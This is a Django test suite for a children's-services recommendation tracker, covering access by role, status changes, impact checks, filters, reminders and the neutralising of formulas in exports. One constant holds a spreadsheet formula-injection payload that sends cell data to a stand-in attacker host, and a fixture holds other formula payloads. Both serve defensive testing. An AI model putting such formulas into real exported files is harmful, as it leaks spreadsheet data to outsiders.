"""The Recommendation and Impact Tracker (issue 5): who sees and changes what, status reasons,
the impact check, filters, the export's formula neutralising, reminders, and the pages' shape."""

import csv
import io
import re
from datetime import date, timedelta
from html.parser import HTMLParser
from io import StringIO

import openpyxl
import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from practice_review.accounts.models import StaffMember, Team
from practice_review.core.dates import add_months
from practice_review.core.spreadsheets import FORMULA_STARTS
from practice_review.reviews.models import Review
from practice_review.tracker import actions, rules
from practice_review.tracker.models import (
    ImpactCheck,
    Recommendation,
    RecommendationUpdate,
    ReminderSent,
)
from practice_review.tracker.queries import recommendations_visible_to

pytestmark = pytest.mark.django_db

SITE = "https://practice-review.council.example"
ROLES = ["qa_lead", "reviewer_independent", "reviewer_internal", "practitioner", "manager",
         "senior_leader", "admin", "outsider"]  # fmt: skip
IMPACT_DUE_TAG = '<strong class="govuk-tag govuk-tag--orange">Impact check due</strong>'
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def staff(name):
    return StaffMember.objects.get_or_create(name=name)[0]


def recommend(actor, *, case_ref=None, owner, level="child", due=None, theme="journey", **extra):
    review = Review.objects.get(child__case_ref=case_ref) if case_ref else None
    return Recommendation.objects.create(
        level=level,
        review=review,
        cohort=review.cohort if review else None,
        theme=theme,
        action=extra.pop("action", "Update the chronology and share it with the family."),
        owner=owner,
        due_date=due or timezone.localdate() + timedelta(days=30),
        success_measure="A current chronology on file.",
        created_by=actor,
        **extra,
    )


@pytest.fixture
def recs(cast, actor, settings):
    """Four recommendations spread over the cast's scopes.

    rl_child: C1001 (worker RL = practitioner, supervisor BA = manager, reviewer Independent
    Associate), owned by RL. other_child: C1003 (reviewer Head of Safeguarding and QA), owned by
    KN. owned_elsewhere: C1003 again, but owned by RL. service: service-level, owned by the
    senior leader. service_other: service-level, owned by nobody in the cast."""
    settings.SITE_URL = SITE
    team = Team.objects.create(name="Children in Care")
    rl = staff("RL")
    rl.team = team
    rl.save()
    head = staff("Head of Service")
    cast["senior_leader"].staff_member = head
    cast["senior_leader"].save()
    for user in cast.values():
        user.email = f"{user.username}@council.example"
        user.save()
    return {
        "rl_child": recommend(actor, case_ref="C1001", owner=rl),
        "other_child": recommend(actor, case_ref="C1003", owner=staff("KN"), theme="identity"),
        "owned_elsewhere": recommend(actor, case_ref="C1003", owner=rl, theme="multi_agency"),
        "service": recommend(actor, level="service", owner=head, theme="management_oversight"),
        "service_other": recommend(actor, level="service", owner=staff("Head of QA")),
    }


# Who sees which recommendation: the one data table (docs/spec/domain.md#who-sees-what).
SEES = {
    "qa_lead": {"rl_child", "other_child", "owned_elsewhere", "service", "service_other"},
    "senior_leader": {"rl_child", "other_child", "owned_elsewhere", "service", "service_other"},
    "reviewer_independent": {"rl_child"},
    "reviewer_internal": {"other_child", "owned_elsewhere"},
    "practitioner": {"rl_child", "owned_elsewhere"},
    "manager": {"rl_child"},
    "admin": set(),
    "outsider": set(),
}
# Who may add updates and change the status of which recommendation.
UPDATES = {
    "qa_lead": {"rl_child", "other_child", "owned_elsewhere", "service", "service_other"},
    "senior_leader": {"service"},
    "practitioner": {"rl_child", "owned_elsewhere"},
}


def names_of(queryset, recs):
    ids = set(queryset.values_list("pk", flat=True))
    return {name for name, rec in recs.items() if rec.pk in ids}


@pytest.mark.parametrize("person", ROLES)
def test_each_role_sees_exactly_the_recommendations_the_domain_allows(cast, recs, person):
    assert names_of(recommendations_visible_to(cast[person]), recs) == SEES[person]


@pytest.mark.parametrize("person", ROLES)
def test_recommendation_pages_are_200_in_scope_and_404_out_of_scope(client, cast, recs, person):
    client.force_login(cast[person])
    for name, rec in recs.items():
        response = client.get(reverse("tracker_detail", args=[rec.pk]))
        assert response.status_code == (200 if name in SEES[person] else 404), name


@pytest.mark.parametrize("person", ROLES)
def test_the_list_shows_only_what_the_person_may_see(client, cast, recs, person):
    client.force_login(cast[person])
    response = client.get(reverse("tracker_list"))
    if person == "admin":  # no case content for administrators
        assert response.status_code == 404
        return
    html = response.content.decode()
    shown = {name for name, rec in recs.items() if rules.reference(rec.pk) in html}
    assert shown == SEES[person]


@pytest.mark.parametrize("person", ROLES)
def test_updates_and_status_changes_only_by_the_owner_or_the_qa_lead(client, cast, recs, person):
    client.force_login(cast[person])
    for name, rec in recs.items():
        allowed = name in UPDATES.get(person, set())
        update = client.post(reverse("tracker_add_update", args=[rec.pk]), {"text": "Progress."})
        status = client.post(
            reverse("tracker_change_status", args=[rec.pk]), {"status": "in_progress"}
        )
        assert update.status_code == status.status_code == (302 if allowed else 404), name
        rec.refresh_from_db()
        assert rec.status == ("in_progress" if allowed else "open"), name
        assert RecommendationUpdate.objects.filter(recommendation=rec).count() == (
            2 if allowed else 0
        )


def test_a_senior_leader_who_owns_a_child_level_recommendation_only_reads_it(client, cast, recs):
    rec = recs["rl_child"]
    rec.owner = cast["senior_leader"].staff_member
    rec.save()
    client.force_login(cast["senior_leader"])
    response = client.post(reverse("tracker_add_update", args=[rec.pk]), {"text": "Done."})
    assert response.status_code == 404
    page = client.get(reverse("tracker_detail", args=[rec.pk])).content.decode()
    assert "Add update" not in page and "Change status" not in page


def test_the_owner_sees_the_forms_and_a_reader_does_not(client, cast, recs):
    url = reverse("tracker_detail", args=[recs["rl_child"].pk])
    client.force_login(cast["practitioner"])
    assert "Change status" in client.get(url).content.decode()
    client.force_login(cast["manager"])
    assert "Change status" not in client.get(url).content.decode()


def test_anonymous_people_are_sent_to_sign_in(client, recs):
    rec = recs["rl_child"]
    for url in [reverse("tracker_list"), reverse("tracker_detail", args=[rec.pk]),
                reverse("tracker_export", args=["csv"])]:  # fmt: skip
        assert client.get(url).status_code == 302
    assert client.post(reverse("tracker_add_update", args=[rec.pk]), {"text": "x"}).status_code in (
        302,
        403,
    )
    assert not RecommendationUpdate.objects.exists()


def test_child_recommendations_on_unsubmitted_reviews_are_not_tracked(cast, recs):
    Review.objects.filter(pk=recs["rl_child"].review_id).update(status="in_progress")
    assert recs["rl_child"] not in recommendations_visible_to(cast["qa_lead"])


# Status changes and their reasons -------------------------------------------------------------


@pytest.mark.parametrize("status", rules.NEEDS_REASON)
def test_closing_without_doing_it_needs_a_reason_and_changes_nothing(client, cast, recs, status):
    rec = recs["rl_child"]
    history = rec.history.count()
    client.force_login(cast["practitioner"])
    response = client.post(
        reverse("tracker_change_status", args=[rec.pk]), {"status": status, "reason": "  "}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "govuk-error-summary" in html and 'href="#id_reason"' in html
    assert "Enter why the recommendation is" in html
    rec.refresh_from_db()
    assert rec.status == "open" and rec.history.count() == history
    assert not RecommendationUpdate.objects.exists()


def test_a_status_change_is_attributed_and_kept_with_its_reason(client, cast, recs):
    rec = recs["rl_child"]
    client.force_login(cast["practitioner"])
    response = client.post(
        reverse("tracker_change_status", args=[rec.pk]),
        {"status": "superseded", "reason": "Replaced by REC-9.", "owner": "", "level": "service"},
    )
    assert response.status_code == 302
    rec.refresh_from_db()
    assert rec.status == "superseded" and rec.status_reason == "Replaced by REC-9."
    assert rec.level == "child" and rec.owner.name == "RL"  # no mass assignment
    latest = rec.history.first()
    assert latest.status == "superseded" and latest.history_user == cast["practitioner"]
    update = rec.updates.get()
    assert (update.from_status, update.to_status, update.by) == (
        "open",
        "superseded",
        cast["practitioner"],
    )


def test_a_closed_recommendation_cannot_be_reopened_or_updated(cast, recs):
    rec = recs["rl_child"]
    actions.change_status(recommendation=rec, status="completed", by=cast["practitioner"])
    with pytest.raises(rules.NotAllowed):
        actions.change_status(recommendation=rec, status="open", by=cast["qa_lead"])
    with pytest.raises(rules.NotAllowed):
        actions.add_update(recommendation=rec, text="More.", by=cast["qa_lead"])
    assert rec.updates.count() == 1


def test_an_unknown_status_is_refused_with_a_message(client, cast, recs):
    rec = recs["rl_child"]
    client.force_login(cast["qa_lead"])
    response = client.post(reverse("tracker_change_status", args=[rec.pk]), {"status": "done"})
    assert "Select a status from the list" in response.content.decode()
    rec.refresh_from_db()
    assert rec.status == "open"


def test_updates_are_append_only(cast, recs):
    update = actions.add_update(recommendation=recs["rl_child"], text="A", by=cast["qa_lead"])
    update.text = "B"
    with pytest.raises(ValueError):
        update.save()
    with pytest.raises(ValueError):
        update.delete()


def test_an_empty_update_is_refused(client, cast, recs):
    client.force_login(cast["practitioner"])
    url = reverse("tracker_add_update", args=[recs["rl_child"].pk])
    html = client.post(url, {"text": " "}).content.decode()
    assert "Enter the update" in html and 'href="#id_text"' in html
    assert not RecommendationUpdate.objects.exists()


# The impact check -----------------------------------------------------------------------------


def test_the_impact_check_flow(client, cast, recs):
    rec = recs["rl_child"]
    client.force_login(cast["practitioner"])
    client.post(reverse("tracker_change_status", args=[rec.pk]), {"status": "completed"})
    check = ImpactCheck.objects.get(recommendation=rec)
    completed = timezone.localdate(check.completed_at)
    assert check.due_on == add_months(completed, 3)

    impact_url = reverse("tracker_record_impact", args=[rec.pk])
    answer = {"made_difference": "partly", "difference_for": "child", "evidence": "Chronology."}
    # The owner does not check their own work, senior leaders only read.
    for person in ("practitioner", "senior_leader", "reviewer_independent"):
        client.force_login(cast[person])
        assert client.post(impact_url, answer).status_code == 404
    # Signing off comes after the check is recorded.
    client.force_login(cast["qa_lead"])
    sign_off_url = reverse("tracker_sign_off_impact", args=[rec.pk])
    assert client.post(sign_off_url).status_code == 404

    # Due: it stands out in the list.
    ImpactCheck.objects.filter(pk=check.pk).update(due_on=timezone.localdate())
    html = client.get(reverse("tracker_list")).content.decode()
    assert IMPACT_DUE_TAG in html and "1 impact check is due" in html

    client.force_login(cast["manager"])
    incomplete = client.post(impact_url, {"made_difference": "partly", "difference_for": "child"})
    assert "Enter the evidence of impact" in incomplete.content.decode()
    check.refresh_from_db()
    assert not check.recorded
    assert client.post(impact_url, answer).status_code == 302
    check.refresh_from_db()
    assert (check.made_difference, check.difference_for, check.recorded_by) == (
        "partly",
        "child",
        cast["manager"],
    )
    assert client.post(sign_off_url).status_code == 404  # managers do not sign off
    assert client.post(impact_url, answer).status_code == 404  # recorded once

    client.force_login(cast["qa_lead"])
    assert client.post(sign_off_url).status_code == 302
    check.refresh_from_db()
    assert check.signed_off_by == cast["qa_lead"]
    assert check.history.count() == 3  # created, recorded, signed off
    assert IMPACT_DUE_TAG not in client.get(reverse("tracker_list")).content.decode()


def test_the_impact_check_is_not_due_before_three_months():
    completed = date(2025, 11, 30)
    assert rules.impact_check_due_on(completed, 3) == date(2026, 2, 28)
    assert not rules.is_impact_check_due(date(2026, 2, 28), False, date(2026, 2, 27))
    assert rules.is_impact_check_due(date(2026, 2, 28), False, date(2026, 2, 28))
    assert not rules.is_impact_check_due(date(2026, 2, 28), True, date(2026, 3, 28))


# Filters and the list -------------------------------------------------------------------------


def listed(client, **query):
    html = client.get(reverse("tracker_list"), query).content.decode()
    return set(re.findall(r"REC-\d{6}", html))


def test_filters_narrow_the_list(client, cast, recs):
    client.force_login(cast["qa_lead"])
    ref = {name: rules.reference(rec.pk) for name, rec in recs.items()}
    rl = staff("RL").pk
    assert listed(client, owner=rl) == {ref["rl_child"], ref["owned_elsewhere"]}
    assert listed(client, team=Team.objects.get().pk) == {ref["rl_child"], ref["owned_elsewhere"]}
    assert listed(client, theme="identity") == {ref["other_child"]}
    cohort = recs["rl_child"].cohort_id
    assert listed(client, cohort=cohort) == {
        ref["rl_child"],
        ref["other_child"],
        ref["owned_elsewhere"],
    }
    actions.change_status(recommendation=recs["service"], status="in_progress", by=cast["qa_lead"])
    assert listed(client, status="in_progress") == {ref["service"]}
    assert listed(client, status=["in_progress", "open"]) == set(ref.values())


def test_overdue_recommendations_stand_out_and_can_be_picked_out(client, cast, recs):
    rec = recs["other_child"]
    Recommendation.objects.filter(pk=rec.pk).update(due_date=timezone.localdate() - timedelta(1))
    client.force_login(cast["qa_lead"])
    html = client.get(reverse("tracker_list")).content.decode()
    assert "govuk-tag--red" in html and "1 recommendation is overdue" in html
    assert listed(client, attention="overdue") == {rules.reference(rec.pk)}


def test_a_filter_value_out_of_scope_is_refused_with_a_message(client, cast, recs):
    client.force_login(cast["practitioner"])
    kn = staff("KN").pk  # owns only a recommendation the practitioner cannot see
    response = client.get(reverse("tracker_list"), {"owner": kn})
    html = response.content.decode()
    assert response.status_code == 200
    assert "Select an owner from the list" in html and 'href="#id_owner"' in html
    assert "KN" not in re.sub(r"<[^>]+>", " ", html).split()


# Export ---------------------------------------------------------------------------------------


@pytest.fixture
def hostile(cast, recs):
    rec = recs["rl_child"]
    Recommendation.objects.filter(pk=rec.pk).update(
        action=INJECTION, success_measure="+1", status_reason="@SUM(A1)"
    )
    return rec


def test_the_csv_export_neutralises_formulas(client, cast, hostile):
    client.force_login(cast["practitioner"])
    response = client.get(reverse("tracker_export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, *data = rows
    assert len(data) == 2  # the practitioner's own scope: rl_child and owned_elsewhere
    row = dict(
        zip(header, next(r for r in data if r[0] == rules.reference(hostile.pk)), strict=True)
    )
    assert row["Action"] == "'" + INJECTION
    assert row["How success will be seen"] == "'+1"
    for cell in (cell for r in data for cell in r):
        assert not cell.startswith(FORMULA_STARTS)


def test_the_xlsx_export_stores_formulas_as_text(client, cast, hostile):
    client.force_login(cast["qa_lead"])
    response = client.get(reverse("tracker_export", args=["xlsx"]), {"owner": staff("RL").pk})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.max_row == 3  # header and the two recommendations RL owns
    action = next(
        row[header.index("Action")]
        for row in sheet.iter_rows(min_row=2)
        if row[0].value == rules.reference(hostile.pk)
    )
    assert action.value == INJECTION and action.data_type == "s" and action.quotePrefix
    for row in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in row)


def test_an_unknown_export_type_is_404(client, cast, recs):
    client.force_login(cast["qa_lead"])
    assert client.get(reverse("tracker_export", args=["pdf"])).status_code == 404


def test_the_export_link_keeps_the_filters(client, cast, recs):
    client.force_login(cast["qa_lead"])
    html = client.get(reverse("tracker_list"), {"theme": "identity"}).content.decode()
    assert 'href="/recommendations/export.csv?theme=identity"' in html


# Reminders ------------------------------------------------------------------------------------


@pytest.fixture
def locmem(settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"


def test_owners_are_reminded_before_the_due_date_once(cast, recs, locmem, mailoutbox):
    today = date(2026, 3, 2)
    rec = recs["rl_child"]
    Recommendation.objects.exclude(pk=rec.pk).update(due_date=today + timedelta(days=60))
    Recommendation.objects.filter(pk=rec.pk).update(due_date=today + timedelta(days=7))
    assert actions.send_reminders(today=today - timedelta(days=1), days_before=7) == []
    sent = actions.send_reminders(today=today, days_before=7)
    assert [str(reminder) for reminder in sent] == [
        f"{rules.reference(rec.pk)}: due soon reminder sent to the owner"
    ]
    assert [message.to for message in mailoutbox] == [["practitioner@council.example"]]
    assert actions.send_reminders(today=today, days_before=7) == []  # once a day at most
    assert actions.send_reminders(today=today + timedelta(days=1), days_before=7) == []  # once
    assert ReminderSent.objects.get().kind == rules.DUE_SOON


def test_owners_are_reminded_when_overdue_at_most_once_a_day(cast, recs, locmem, mailoutbox):
    today = date(2026, 3, 2)
    rec = recs["rl_child"]
    Recommendation.objects.exclude(pk=rec.pk).update(status="completed")
    Recommendation.objects.filter(pk=rec.pk).update(due_date=today - timedelta(days=1))
    assert len(actions.send_reminders(today=today, days_before=7)) == 1
    assert actions.send_reminders(today=today, days_before=7) == []
    assert len(actions.send_reminders(today=today + timedelta(days=1), days_before=7)) == 1
    assert len(mailoutbox) == 2
    message = mailoutbox[0]
    reference = rules.reference(rec.pk)
    assert reference in message.subject and "overdue" in message.subject
    assert f"{SITE}/recommendations/{rec.pk}/" in message.body
    child = rec.review.child
    text = f"{message.subject}\n{message.body}"
    for detail in [child.case_ref, rec.action, rec.review.cohort.name]:
        assert detail not in text
    assert not re.search(rf"\b{child.initials}\b", text)


def test_the_reminder_command_uses_the_setting(cast, recs, locmem, mailoutbox, settings):
    today = timezone.localdate()
    Recommendation.objects.update(due_date=today + timedelta(days=60), status="completed")
    rec = recs["service"]
    Recommendation.objects.filter(pk=rec.pk).update(
        due_date=today + timedelta(days=3), status="open"
    )
    settings.RECOMMENDATION_REMINDER_DAYS = 2
    out = StringIO()
    call_command("remind_recommendations", stdout=out)
    assert "No reminders to send." in out.getvalue() and mailoutbox == []
    settings.RECOMMENDATION_REMINDER_DAYS = 3
    call_command("remind_recommendations", stdout=out)
    assert f"{rules.reference(rec.pk)}: due soon reminder sent" in out.getvalue()
    assert [message.to for message in mailoutbox] == [["senior.leader@council.example"]]


def test_an_owner_without_an_email_address_is_reported_not_recorded(cast, recs, locmem):
    today = timezone.localdate()
    Recommendation.objects.update(status="completed")
    rec = recs["rl_child"]
    Recommendation.objects.filter(pk=rec.pk).update(status="open", due_date=today)
    cast["practitioner"].email = ""
    cast["practitioner"].save()
    [reminder] = actions.send_reminders(today=today, days_before=7)
    assert not reminder.sent and "no email address" in str(reminder)
    assert not ReminderSent.objects.exists()


# The pages' structure (what axe would catch first, without a browser) ------------------------


class Structure(HTMLParser):
    def __init__(self):
        super().__init__()
        self.ids, self.label_for, self.fields, self.h1 = [], set(), [], 0
        self.th_without_scope = 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if "id" in attrs:
            self.ids.append(attrs["id"])
        if tag == "label" and "for" in attrs:
            self.label_for.add(attrs["for"])
        if tag in ("input", "select", "textarea") and attrs.get("type") not in ("hidden",):
            self.fields.append(attrs.get("id"))
        if tag == "h1":
            self.h1 += 1
        if tag == "th" and "scope" not in attrs:
            self.th_without_scope += 1


def structure_of(html):
    parser = Structure()
    parser.feed(html)
    return parser


@pytest.mark.parametrize("page", ["list", "detail", "detail_with_errors"])
def test_pages_have_one_heading_labelled_fields_and_unique_ids(client, cast, recs, page):
    client.force_login(cast["qa_lead"])
    rec = recs["rl_child"]
    actions.change_status(recommendation=rec, status="completed", by=cast["qa_lead"])
    if page == "list":
        response = client.get(reverse("tracker_list"))
    elif page == "detail":
        response = client.get(reverse("tracker_detail", args=[recs["service"].pk]))
    else:
        response = client.post(reverse("tracker_record_impact", args=[rec.pk]), {})
    html = response.content.decode()
    found = structure_of(html)
    assert found.h1 == 1
    assert len(found.ids) == len(set(found.ids)), "duplicate ids"
    assert found.fields and all(field in found.label_for for field in found.fields)
    assert found.th_without_scope == 0
    if page == "list":
        assert "<caption" in html and 'class="govuk-button"' in html
    if page == "detail":
        assert "govuk-summary-list" in html
    if page == "detail_with_errors":
        assert html.count("govuk-error-summary__list") == 1
        for field in ("id_made_difference", "id_difference_for", "id_evidence"):
            assert f'href="#{field}"' in html and f'id="{field}"' in html
        assert "<title>Error:" in html


def test_the_list_makes_the_same_number_of_queries_however_long_it_is(client, cast, recs, actor):
    client.force_login(cast["qa_lead"])
    client.get(reverse("tracker_list"))  # warm the session and caches
    with CaptureQueriesContext(connection) as before:
        client.get(reverse("tracker_list"))
    for _ in range(5):
        recommend(actor, case_ref="C1002", owner=staff("PA"))
        actions.change_status(
            recommendation=recommend(actor, level="service", owner=staff("SC")),
            status="completed",
            by=cast["qa_lead"],
        )
    with CaptureQueriesContext(connection) as after:
        client.get(reverse("tracker_list"))
    assert len(after) == len(before)


def test_the_navigation_offers_the_tracker_to_those_who_may_use_it(client, cast):
    for person in ROLES:
        client.force_login(cast[person])
        html = client.get(reverse("home")).content.decode()
        assert ('href="/recommendations/"' in html) == (person != "admin"), person


@pytest.mark.parametrize("person", ROLES)
def test_every_tracker_link_a_person_is_shown_works_for_them(client, cast, recs, person):
    from tests.integration.test_crawl import crawl

    actions.change_status(recommendation=recs["rl_child"], status="completed", by=cast["qa_lead"])
    actions.add_update(recommendation=recs["service"], text="Started.", by=cast["qa_lead"])
    client.force_login(cast[person])
    seen, problems = crawl(client)
    assert problems == []
    tracker_pages = {url for url in seen if url.startswith("/recommendations/")}
    expected = {reverse("tracker_detail", args=[recs[name].pk]) for name in SEES[person]}
    assert expected <= tracker_pages


def test_an_export_with_a_bad_filter_goes_back_to_the_list_to_explain(client, cast, recs):
    client.force_login(cast["qa_lead"])
    response = client.get(reverse("tracker_export", args=["csv"]), {"theme": "nonsense"})
    assert response.status_code == 302
    assert response["Location"] == "/recommendations/?theme=nonsense"
    html = client.get(response["Location"]).content.decode()
    assert "Select a theme from the list" in html


def test_the_qa_lead_does_not_sign_off_an_impact_check_they_recorded(client, cast, recs):
    rec = recs["rl_child"]
    client.force_login(cast["practitioner"])
    client.post(reverse("tracker_change_status", args=[rec.pk]), {"status": "completed"})
    client.force_login(cast["qa_lead"])
    answer = {"made_difference": "yes", "difference_for": "child", "evidence": "Seen in visits."}
    assert client.post(reverse("tracker_record_impact", args=[rec.pk]), answer).status_code == 302
    sign_off = client.post(reverse("tracker_sign_off_impact", args=[rec.pk]))
    assert sign_off.status_code == 404  # someone independent must check it
    assert not ImpactCheck.objects.get(recommendation=rec).signed_off


def test_a_tracked_recommendation_stays_in_the_tracker_when_its_review_is_reopened(
    client, cast, recs
):
    from practice_review.reviews import actions as review_actions

    rec = recs["rl_child"]
    client.force_login(cast["practitioner"])
    client.post(reverse("tracker_add_update", args=[rec.pk]), {"text": "Started."})
    review_actions.reopen_review(review=rec.review, by=cast["qa_lead"], reason="New facts.")
    client.force_login(cast["qa_lead"])
    assert rules.reference(rec.pk) in client.get(reverse("tracker_list")).content.decode()


def test_one_refused_address_does_not_stop_the_other_reminders(cast, recs, monkeypatch, caplog):
    import smtplib

    from practice_review.tracker import actions as tracker_actions

    calls = []
    real = tracker_actions._remind

    def refuse_first(recommendation, today, days_before):
        calls.append(recommendation.pk)
        if len(calls) == 1:
            raise smtplib.SMTPRecipientsRefused({"someone@example.org": (550, b"no")})
        return real(recommendation, today, days_before)

    monkeypatch.setattr(tracker_actions, "_remind", refuse_first)
    tracker_actions.send_reminders(today=date(2030, 1, 1))
    assert len(calls) > 1
    assert "someone@example.org" not in caplog.text


# ---------------------------------------------------------------- due dates and review dates


@pytest.fixture
def dated_review(cast):
    """A review being written, whose reviewer has given its date: 3 March 2025."""
    from practice_review.reviews import actions as review_actions

    cohort = review_actions.create_cohort(
        by=cast["qa_lead"], name="March 2025", period_start=date(2025, 3, 1),
        period_end=date(2025, 3, 31), selected_by="SLT", selection_reason="mixed",
    )  # fmt: skip
    review = review_actions.assign_review(
        by=cast["qa_lead"], cohort=cohort, child=Review.objects.get(child__case_ref="C1001").child,
        reviewer=staff("Independent Associate"), reviewer_type="independent",
        due_date=date(2025, 3, 10), social_worker=staff("RL"),
    )  # fmt: skip
    Review.objects.filter(pk=review.pk).update(
        review_date=date(2025, 3, 3), review_date_confirmed=True
    )
    review.refresh_from_db()
    return review


def test_a_recommendation_due_before_its_review_date_is_refused_by_the_action(cast, dated_review):
    with pytest.raises(actions.NotAllowed) as refused:
        actions.add_child_recommendation(
            review=dated_review, by=cast["reviewer_independent"], action="Update the plan",
            owner=staff("RL"), due_date=date(2025, 3, 2), success_measure="Plan updated",
        )  # fmt: skip
    assert str(refused.value) == "The due date must be on or after the review date, 3 March 2025"
    assert not dated_review.recommendations.exists()
    on_the_day = actions.add_child_recommendation(
        review=dated_review, by=cast["reviewer_independent"], action="Update the plan",
        owner=staff("RL"), due_date=date(2025, 3, 3), success_measure="Plan updated",
    )  # fmt: skip
    assert on_the_day.due_date == date(2025, 3, 3)


def test_the_review_forms_recommendation_due_before_the_review_date_is_a_field_error(
    client, cast, dated_review
):
    client.force_login(cast["reviewer_independent"])
    page = client.post(reverse("review_recommendations", args=[dated_review.id]), {
        "action": "Update the plan", "owner": staff("RL").pk, "due_date": "02/03/2025",
        "success_measure": "Plan updated", "theme": "",
    })  # fmt: skip
    assert page.status_code == 200
    text = page.content.decode()
    assert "The due date must be on or after the review date, 3 March 2025" in text
    assert 'href="#id_due_date"' in text  # in the error summary, linked to the field
    assert not dated_review.recommendations.exists()


def test_a_recommendation_made_before_the_review_date_was_given_is_checked_again(
    client, cast, dated_review
):
    """Made while the date was still blank, it could not be checked then; once the reviewer gives
    a later review date, the task list and the submit page name it, and submission waits."""
    from practice_review.reviews import review_sections
    from practice_review.reviews.queries import review_answers

    Review.objects.filter(pk=dated_review.pk).update(review_date_confirmed=False)
    dated_review.refresh_from_db()
    actions.add_child_recommendation(
        review=dated_review, by=cast["reviewer_independent"], action="Update the plan",
        owner=staff("RL"), due_date=date(2025, 3, 1), success_measure="Plan updated",
    )  # fmt: skip
    Review.objects.filter(pk=dated_review.pk).update(review_date_confirmed=True)
    dated_review.refresh_from_db()
    needs = review_sections.missing(review_answers(dated_review))["recommendations"]
    assert needs == [
        "Change the date a recommendation should be done by: 1 March 2025 is before the review "
        "date, 3 March 2025"
    ]
    assert review_sections.status("recommendations", review_answers(dated_review)) == (
        review_sections.IN_PROGRESS
    )
    client.force_login(cast["reviewer_independent"])
    tasks = client.get(reverse("review_tasks", args=[dated_review.id])).content.decode()
    assert 'id="task-recommendations-hint"' in tasks
    submit = client.get(reverse("review_submit", args=[dated_review.id])).content.decode()
    assert "1 March 2025 is before the review date, 3 March 2025" in submit
